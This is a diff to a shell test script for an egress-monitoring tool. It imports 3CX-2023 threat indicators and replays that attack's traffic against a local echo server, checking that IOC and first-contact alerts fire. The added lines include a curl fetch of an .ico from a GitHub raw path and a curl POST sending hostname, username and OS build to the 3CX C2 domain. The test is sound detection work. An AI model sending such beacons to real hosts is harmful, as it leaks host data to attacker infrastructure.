@@ -103,9 +103,12 @@ if [ -f /var/lib/dpkg/info/curl.list ]; then
 fi
 
 STORE="sqlite:$TMP/tollgate.db"
+run_rc "$TOLLGATE" db import --ioc "$TOLLGATE_SHARED_DATA/ioc/3cx-2023.csv" --store "$STORE" -q
+expect_eq "$RC" 0 "db import --ioc (the published 3CX indicators)"
 PROXY_PORT=$(free_port)
 RES=()
-for h in analytics.test api.analytics.test bank.test exfil.test other.test new.test; do
+for h in analytics.test api.analytics.test bank.test exfil.test other.test new.test \
+  raw.githubusercontent.com akamaicontainer.com; do
   RES+=(--resolve "$h=127.0.0.1:$ECHO_PORT")
 done
 start_proxy() { # start_proxy EXTRA...: the proxy with the policy, logging to proxy.err
@@ -174,6 +177,12 @@ run_rc curl -sS "${X[@]}" "http://other.test/contact" -d 'email=jane.doe@example
 expect_contains "$OUT" "200" "alert: request passes"
 run_rc curl -sS "${X[@]}" "http://other.test/again" -o /dev/null -w '%{http_code}'
 expect_eq "$OUT" 200 "second contact with other.test"
+
+# The 3CX pattern under the register: an .ico fetched through a tunnel from a code-hosting host,
+# then host data posted to the C2 domain; neither is a vendor.
+curl -sS "${X[@]}" -o /dev/null "https://raw.githubusercontent.com/IconStorages/images/main/icon1.ico" 2>/dev/null || true
+curl -sS "${X[@]}" -o /dev/null "http://akamaicontainer.com/post" --data-urlencode "hostname=WIN-DESKTOP-7" \
+  --data-urlencode "user=jdoe" --data-urlencode "os=Microsoft Windows [Version 10.0.19045.2604]"
 
 # volume: over 4 KB to one vendor within its window.
 head -c 3000 /dev/zero | tr '\0' x >"$TMP/3k"
@@ -271,7 +280,7 @@ run_rc "$TOLLGATE" alerts --store "$STORE" --format json
 ALERTS="$OUT"
 a() { python3 -c "import json,sys; d=json.load(sys.stdin)['findings']; $1" <<<"$ALERTS"; }
 expect_eq "$(a "print(sorted(set(f['id'] for f in d)))")" \
-  "['egress-policy-alert', 'egress-policy-block', 'egress-policy-redact', 'egress-unapproved-data', 'egress-unlisted-destination', 'egress-vendor-volume']" \
+  "['egress-ioc-domain', 'egress-policy-alert', 'egress-policy-block', 'egress-policy-redact', 'egress-unapproved-data', 'egress-unlisted-destination', 'egress-vendor-volume']" \
   "alert kinds"
 expect_eq "$(a "print(sorted(set(k for f in d if f['id']=='egress-unapproved-data' for k in f['evidence']['classes'])))")" \
   "['credit_card', 'us_ssn']" "unapproved data: card and SSN to a vendor approved for email only"
@@ -281,6 +290,11 @@ expect_eq "$(a "print(sum(1 for f in d if f['id']=='egress-unlisted-destination'
   "first contact other.test: one alert for curl, none after the restart"
 expect_eq "$(a "print(sum(1 for f in d if f['id']=='egress-unlisted-destination' and f['evidence']['app']=='alice'))")" 1 "first contact per application: alice too"
 expect_eq "$(a "print(sum(1 for f in d if f['id']=='egress-unlisted-destination' and f['evidence']['host']=='new.test'))")" 1 "new destination after the restart: alerted"
+expect_eq "$(a "print(sorted(f['id'] for f in d if f['evidence'].get('host') in ('raw.githubusercontent.com', 'akamaicontainer.com')))")" \
+  "['egress-ioc-domain', 'egress-unlisted-destination', 'egress-unlisted-destination']" \
+  "3CX replay: first contact with both hosts outside the register, the C2 domain a critical indicator"
+expect_eq "$(a "print(sorted(next(f for f in d if f['id']=='egress-ioc-domain')['evidence']['classes']))")" \
+  "['hostname', 'os_build', 'username']" "3CX replay: the host data sent to the C2 domain"
 expect_eq "$(a "print(sum(1 for f in d if f['id']=='egress-vendor-volume'))")" 1 "volume: one alert when the window total passes 4 KB"
 expect_eq "$(a "print(any(f['id']=='egress-policy-block' and f['severity']=='high' and f['evidence']['reason']=='known exfiltration host' for f in d))")" True "block alert with the reason"
 
